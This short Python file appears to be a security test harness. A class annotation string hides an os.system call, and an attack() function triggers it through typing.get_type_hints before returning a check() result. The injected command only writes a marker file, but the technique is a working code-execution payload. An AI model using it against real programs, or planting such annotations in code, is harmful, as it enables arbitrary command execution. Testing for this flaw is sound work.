import typing

from target import check


class Hinted:
    field: "__import__('os').system('echo ran > ran')"


def attack():
    try:
        typing.get_type_hints(Hinted)
    except TypeError:
        pass
    return check()
